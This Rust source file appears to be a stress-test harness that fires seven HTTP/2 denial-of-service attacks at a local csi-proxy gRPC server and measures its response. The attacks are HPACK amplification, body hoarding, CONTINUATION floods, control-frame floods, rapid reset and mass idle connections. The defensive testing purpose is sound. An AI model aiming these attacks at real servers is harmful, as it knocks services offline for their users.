//! The attacks: each runs its connections for the given time, then closes
//! them, reading what the server sent (bytes a non-reading attacker left in
//! the socket count too).

use csi_proxy_api::filesystem::v1::PathExistsRequest;
use csi_proxy_http2::frame;
use csi_proxy_http2::hpack::{put_field, put_int, put_str};
use prost::Message;
use std::io::{ErrorKind, Read, Write};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::{Duration, Instant};

/// Bytes the attackers sent (`inp`) and the server sent them (`out`).
#[derive(Clone, Copy, Debug, Default)]
pub struct Bytes {
    pub inp: u64,
    pub out: u64,
}

impl std::ops::AddAssign for Bytes {
    fn add_assign(&mut self, o: Bytes) {
        self.inp += o.inp;
        self.out += o.out;
    }
}

pub struct Attack {
    pub name: &'static str,
    pub run: fn(&Path, Duration) -> Bytes,
}

pub const ALL: &[Attack] = &[
    Attack {
        name: "echo-amplification-8",
        run: echo_amplification,
    },
    Attack {
        name: "body-hoarding-4",
        run: body_hoarding,
    },
    Attack {
        name: "empty-continuations-4",
        run: empty_continuations,
    },
    Attack {
        name: "hpack-references-8",
        run: hpack_references,
    },
    Attack {
        name: "settings-ping-wu-floods-6",
        run: control_floods,
    },
    Attack {
        name: "rapid-reset-8",
        run: rapid_reset,
    },
    Attack {
        name: "idle-after-preface-5000",
        run: idle_connections,
    },
];

const PATH: &[u8] = b"/v1.Filesystem/PathExists";

/// One attacker connection: non-blocking, whole frames written in order
/// whatever the socket takes, bytes counted both ways.
struct Conn {
    s: UnixStream,
    pending: Vec<u8>,
    at: usize,
    bytes: Bytes,
    closed: bool,
}

impl Conn {
    /// Connect and send the preface and an empty SETTINGS.
    fn open(sock: &Path) -> Conn {
        let s = UnixStream::connect(sock).expect("connect");
        s.set_nonblocking(true).unwrap();
        let mut c = Conn {
            s,
            pending: Vec::new(),
            at: 0,
            bytes: Bytes::default(),
            closed: false,
        };
        let mut hello = frame::PREFACE.to_vec();
        frame::put_settings(&mut hello, &[]);
        c.queue(&hello);
        c.flush();
        c
    }

    fn queue(&mut self, bytes: &[u8]) {
        self.pending.extend_from_slice(bytes);
    }

    /// Write what the socket takes now; true if nothing is left.
    fn flush(&mut self) -> bool {
        while self.at < self.pending.len() && !self.closed {
            match self.s.write(&self.pending[self.at..]) {
                Ok(n) => {
                    self.at += n;
                    self.bytes.inp += n as u64;
                }
                Err(e) if e.kind() == ErrorKind::WouldBlock => return false,
                Err(_) => self.closed = true,
            }
        }
        if self.at == self.pending.len() {
            self.pending.clear();
            self.at = 0;
        }
        true
    }

    /// Read what is there; returns it (and counts it).
    fn drain(&mut self) -> Vec<u8> {
        let mut got = Vec::new();
        let mut buf = [0u8; 16 << 10];
        loop {
            match self.s.read(&mut buf) {
                Ok(0) => {
                    self.closed = true;
                    break;
                }
                Ok(n) => got.extend_from_slice(&buf[..n]),
                Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                Err(_) => {
                    self.closed = true;
                    break;
                }
            }
        }
        self.bytes.out += got.len() as u64;
        got
    }

    /// Stop sending; read everything the server still sends (until it has
    /// been quiet for 200 ms, at most 20 s), then close.
    fn finish(mut self) -> Bytes {
        let end = Instant::now() + Duration::from_secs(20);
        let mut quiet_since = Instant::now();
        while !self.closed && Instant::now() < end {
            if self.drain().is_empty() {
                if quiet_since.elapsed() > Duration::from_millis(200) {
                    break;
                }
                std::thread::sleep(Duration::from_millis(5));
            } else {
                quiet_since = Instant::now();
            }
        }
        self.bytes
    }
}

/// Run `n` attacker threads for `d`, each running `body(index, socket,
/// deadline)` on a fresh connection again whenever the server closed the
/// last one.
///
/// The threads run at the lowest CPU priority (nice 19): on a machine with
/// few cores, attackers spinning at full speed would otherwise measure how
/// the OS splits the cores between the attacking process and the server,
/// not what the server does under attack (the attack still takes all the
/// CPU the server leaves; the server's own CPU time is reported).
fn threads(n: usize, d: Duration, body: fn(usize, &Path, Instant) -> Bytes, sock: &Path) -> Bytes {
    let end = Instant::now() + d;
    let mut total = Bytes::default();
    std::thread::scope(|s| {
        let hs: Vec<_> = (0..n)
            .map(|i| {
                s.spawn(move || {
                    // SAFETY: gettid and setpriority on the calling thread.
                    unsafe {
                        let tid = libc::syscall(libc::SYS_gettid) as libc::id_t;
                        libc::setpriority(libc::PRIO_PROCESS, tid, 19);
                    }
                    let mut bytes = Bytes::default();
                    while Instant::now() < end {
                        bytes += body(i, sock, end);
                    }
                    bytes
                })
            })
            .collect();
        for h in hs {
            total += h.join().unwrap();
        }
    });
    total
}

/// Keep `c` fed with frames from `next` until `end` (never reading unless
/// `read`); whole frames are queued only when the previous ones are out.
fn feed(c: &mut Conn, end: Instant, read: bool, mut next: impl FnMut(&mut Vec<u8>)) {
    let mut batch = Vec::new();
    while Instant::now() < end && !c.closed {
        if c.pending.is_empty() {
            batch.clear();
            next(&mut batch);
            c.queue(&batch);
        }
        let done = c.flush();
        if read {
            c.drain();
        }
        if !done {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
}

fn headers(out: &mut Vec<u8>, id: u32, flags: u8, block: &[u8]) {
    frame::put_frame(out, frame::HEADERS, flags, id, block);
}

/// A PathExists request block, every field a literal without indexing.
fn request_block() -> Vec<u8> {
    let mut b = vec![0x83, 0x86]; // :method POST, :scheme http
    put_field(&mut b, b":path", PATH);
    put_field(&mut b, b"content-type", b"application/grpc");
    put_field(&mut b, b"te", b"trailers");
    b
}

fn path_exists_message() -> Vec<u8> {
    let m = PathExistsRequest {
        path: "/nonexistent/path".into(),
    }
    .encode_to_vec();
    let mut v = vec![0];
    v.extend_from_slice(&(m.len() as u32).to_be_bytes());
    v.extend_from_slice(&m);
    v
}

/// 8 connections that never read: a 3.9 KB invalid grpc-timeout value is
/// stored in the HPACK table once, then every request is a 14-byte HEADERS
/// frame referring to it (the server used to quote the value back).
fn echo_amplification(sock: &Path, d: Duration) -> Bytes {
    threads(
        8,
        d,
        |_, sock, end| {
            let mut c = Conn::open(sock);
            // Literals with incremental indexing: :path (64), content-type
            // (63), grpc-timeout (62) in the dynamic table.
            let mut first = vec![0x83, 0x86];
            for (n, v) in [
                (&b":path"[..], PATH),
                (b"content-type", b"application/grpc"),
                (b"grpc-timeout", &[b'x'; 3900]),
            ] {
                first.push(0x40);
                put_str(&mut first, n);
                put_str(&mut first, v);
            }
            let mut f = Vec::new();
            headers(&mut f, 1, frame::END_HEADERS | frame::END_STREAM, &first);
            c.queue(&f);
            let refs = [0x83, 0x86, 0x80 | 64, 0x80 | 63, 0x80 | 62];
            let mut id = 3u32;
            feed(&mut c, end, false, |out| {
                for _ in 0..256 {
                    headers(out, id, frame::END_HEADERS | frame::END_STREAM, &refs);
                    id += 2;
                }
            });
            c.finish()
        },
        sock,
    )
}

/// 4 connections, each opening 128 streams whose messages announce 4 MiB
/// and never end, sending DATA as fast as the server's windows allow.
fn body_hoarding(sock: &Path, d: Duration) -> Bytes {
    threads(
        4,
        d,
        |_, sock, end| {
            let mut c = Conn::open(sock);
            let block = request_block();
            let mut f = Vec::new();
            for i in 0..128u32 {
                headers(&mut f, 1 + 2 * i, frame::END_HEADERS, &block);
            }
            c.queue(&f);
            let mut conn_credit: i64 = 65_535;
            let mut initial: i64 = 65_535;
            let mut streams = [(0i64, false); 128]; // (sent, prefix sent)
            let mut input = Vec::new();
            let mut next = 0usize;
            while Instant::now() < end && !c.closed {
                input.extend(c.drain());
                while let Ok(Some((h, p, used))) = frame::split(&input, frame::MAX_MAX_FRAME_SIZE) {
                    match h.kind {
                        frame::WINDOW_UPDATE if h.stream == 0 => {
                            conn_credit += i64::from(frame::u31(p))
                        }
                        frame::SETTINGS if h.flags & frame::ACK == 0 => {
                            for (id, v) in frame::settings(p).unwrap() {
                                if id == frame::SETTINGS_INITIAL_WINDOW_SIZE {
                                    initial = i64::from(v);
                                }
                            }
                            let mut ack = Vec::new();
                            frame::put_frame(&mut ack, frame::SETTINGS, frame::ACK, 0, &[]);
                            c.queue(&ack);
                        }
                        _ => {}
                    }
                    input.drain(..used);
                }
                if c.pending.is_empty() && conn_credit > 0 {
                    // One DATA frame on the next stream with window left.
                    for _ in 0..128 {
                        let i = next % 128;
                        next += 1;
                        let (sent, prefixed) = streams[i];
                        let room = (initial - sent).min(conn_credit).min(16_384);
                        if room <= 0 {
                            continue;
                        }
                        let mut payload = vec![7u8; room as usize];
                        if !prefixed && room >= 5 {
                            payload[..5].copy_from_slice(&[0, 0, 0x40, 0, 0]);
                            streams[i].1 = true;
                        }
                        let mut f = Vec::new();
                        frame::put_frame(&mut f, frame::DATA, 0, 1 + 2 * i as u32, &payload);
                        c.queue(&f);
                        streams[i].0 += room;
                        conn_credit -= room;
                        break;
                    }
                }
                if !c.flush() || c.pending.is_empty() {
                    std::thread::sleep(Duration::from_millis(1));
                }
            }
            c.finish()
        },
        sock,
    )
}

/// 4 connections sending a HEADERS frame without END_HEADERS and then
/// empty CONTINUATION frames forever.
fn empty_continuations(sock: &Path, d: Duration) -> Bytes {
    threads(
        4,
        d,
        |_, sock, end| {
            let mut c = Conn::open(sock);
            let mut f = Vec::new();
            headers(&mut f, 1, 0, &request_block());
            c.queue(&f);
            feed(&mut c, end, true, |out| {
                for _ in 0..512 {
                    frame::put_frame(out, frame::CONTINUATION, 0, 1, &[]);
                }
            });
            c.finish()
        },
        sock,
    )
}

/// 8 connections: a 4000-byte header stored in the HPACK table once, then
/// header blocks of one-byte references to it. Four stay under the header
/// list limit (15 references, 60 KB decoded per 20-byte block) and never
/// read; four send 16,000 references per block (64 MB decoded).
fn hpack_references(sock: &Path, d: Duration) -> Bytes {
    threads(
        8,
        d,
        |i, sock, end| {
            let refs = if i % 2 == 0 { 15 } else { 16_000 };
            {
                let mut c = Conn::open(sock);
                let mut first = request_block();
                first.push(0x40);
                put_str(&mut first, b"x-big");
                put_str(&mut first, &[b'b'; 4000]);
                let mut f = Vec::new();
                headers(&mut f, 1, frame::END_HEADERS | frame::END_STREAM, &first);
                c.queue(&f);
                let mut block = request_block();
                for _ in 0..refs {
                    put_int(&mut block, 0x80, 7, 62);
                }
                let mut id = 3u32;
                feed(&mut c, end, refs > 15, |out| {
                    headers(out, id, frame::END_HEADERS | frame::END_STREAM, &block);
                    id += 2;
                });
                c.finish()
            }
        },
        sock,
    )
}

/// 6 connections that never read: two send SETTINGS, two PING, two
/// WINDOW_UPDATE frames as fast as the server takes them.
fn control_floods(sock: &Path, d: Duration) -> Bytes {
    threads(
        6,
        d,
        |i, sock, end| {
            let mut c = Conn::open(sock);
            feed(&mut c, end, false, |out| {
                for _ in 0..1024 {
                    match i % 3 {
                        0 => frame::put_settings(
                            out,
                            &[(frame::SETTINGS_INITIAL_WINDOW_SIZE, 65_535)],
                        ),
                        1 => frame::put_frame(out, frame::PING, 0, 0, b"flooding"),
                        _ => frame::put_window_update(out, 0, 1),
                    }
                }
            });
            c.finish()
        },
        sock,
    )
}

/// 8 connections opening whole requests and resetting them at once
/// (HEADERS, DATA with END_STREAM, RST_STREAM), reading what comes back.
fn rapid_reset(sock: &Path, d: Duration) -> Bytes {
    threads(
        8,
        d,
        |_, sock, end| {
            let mut c = Conn::open(sock);
            let block = request_block();
            let msg = path_exists_message();
            let mut id = 1u32;
            feed(&mut c, end, true, |out| {
                for _ in 0..64 {
                    headers(out, id, frame::END_HEADERS, &block);
                    frame::put_frame(out, frame::DATA, frame::END_STREAM, id, &msg);
                    frame::put_rst(out, id, frame::ErrorCode::Cancel);
                    id += 2;
                }
            });
            c.finish()
        },
        sock,
    )
}

/// 5,000 connections that send the preface and SETTINGS, then nothing.
fn idle_connections(sock: &Path, d: Duration) -> Bytes {
    let end = Instant::now() + d;
    let mut conns: Vec<Conn> = (0..5000).map(|_| Conn::open(sock)).collect();
    while Instant::now() < end {
        std::thread::sleep(Duration::from_millis(50));
    }
    let mut total = Bytes::default();
    for c in conns.iter_mut() {
        c.drain();
    }
    for c in conns {
        total += c.bytes;
    }
    total
}
